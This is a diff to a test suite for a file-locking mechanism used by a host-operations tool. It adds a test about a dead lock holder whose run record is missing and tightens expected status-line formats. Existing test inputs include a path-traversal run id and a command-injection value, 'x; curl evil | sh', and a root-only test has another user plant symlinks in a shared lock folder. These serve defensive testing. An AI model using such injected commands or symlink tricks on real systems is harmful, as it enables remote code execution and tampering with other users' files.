@@ -292,6 +292,23 @@ describe('the lock on the target', () => {
     })
   })
 
+  test('of a holder that is proven dead and whose run has no record: told with the file that is in the way', async () => {
+    const name = newName()
+    await holding(name, lockAs('first'), async () => {
+      const { end } = await play({
+        transport,
+        // Waiting would not help.
+        lock: lockAs('second', 'lost', 60_000),
+        steps: [{ id: 'a', with: { name: 'y', to: '1', lock: name } }],
+      })
+      const lock = expect.stringMatching(/^\/var\/tmp\/hostops-locks\/[0-9a-f]{32}\.lock$/)
+      expect(end).toMatchObject({
+        outcome: 'refused',
+        failure: { code: 'record-gone', runId: 'first', lock },
+      })
+    })
+  })
+
   test.each<[string, object]>([
     ['a path for its run', { runId: '../../../../tmp/evil' }],
     ['a command for its run', { runId: 'x; curl evil | sh' }],
@@ -457,14 +474,14 @@ describe('a lock that is somebody else’s by now', () => {
 
   test('is not replaced by who saw another holder, and is by who saw this one', () => {
     ask('acquire', 'them')
-    expect(ask('replace', 'us', 'somebody before them')).toMatch(/^held \d+\nthem\n$/)
+    expect(ask('replace', 'us', 'somebody before them')).toMatch(/^held \d+ \S+\nthem\n$/)
     expect(ask('replace', 'us', 'them')).toBe('mine\n')
   })
   test('is neither released nor kept fresh by who lost it', () => {
     ask('acquire', 'them')
     expect(ask('release', 'us')).toBe('released\n')
-    expect(ask('touch', 'us')).toMatch(/^lost \d+\nthem\n$/)
-    expect(ask('acquire', 'us')).toMatch(/^held \d+\nthem\n$/)
+    expect(ask('touch', 'us')).toMatch(/^lost \d+ \S+\nthem\n$/)
+    expect(ask('acquire', 'us')).toMatch(/^held \d+ \S+\nthem\n$/)
   })
 })
 
@@ -499,12 +516,12 @@ describe.skipIf(!asRoot)('a lock folder that another user of the machine made fi
     expect([uid, mode & 0o7777]).toEqual([0, 0o1777])
     expect(asThem('rm -f locks/a.lock').status).not.toBe(0)
     expect(asUs('touch', 'a.lock', 'us')[0]).toBe('mine')
-    expect(asUs('acquire', 'a.lock', 'them')[0]).toMatch(/^held \d+$/)
+    expect(asUs('acquire', 'a.lock', 'them')[0]).toMatch(/^held \d+ \S+$/)
   })
 
   test('leads to no file of ours, whatever names were prepared in it', () => {
     asThem(`mkdir locks; cd locks; for name in .mutex a.lock; do ln -s ${precious} $name; done`)
-    expect(asUs('acquire', 'a.lock', 'us')).toEqual([expect.stringMatching(/^held \d+$/), precious, ''])
+    expect(asUs('acquire', 'a.lock', 'us')).toEqual([expect.stringMatching(/^held \d+ \S+$/), precious, ''])
     untouched()
   })
 
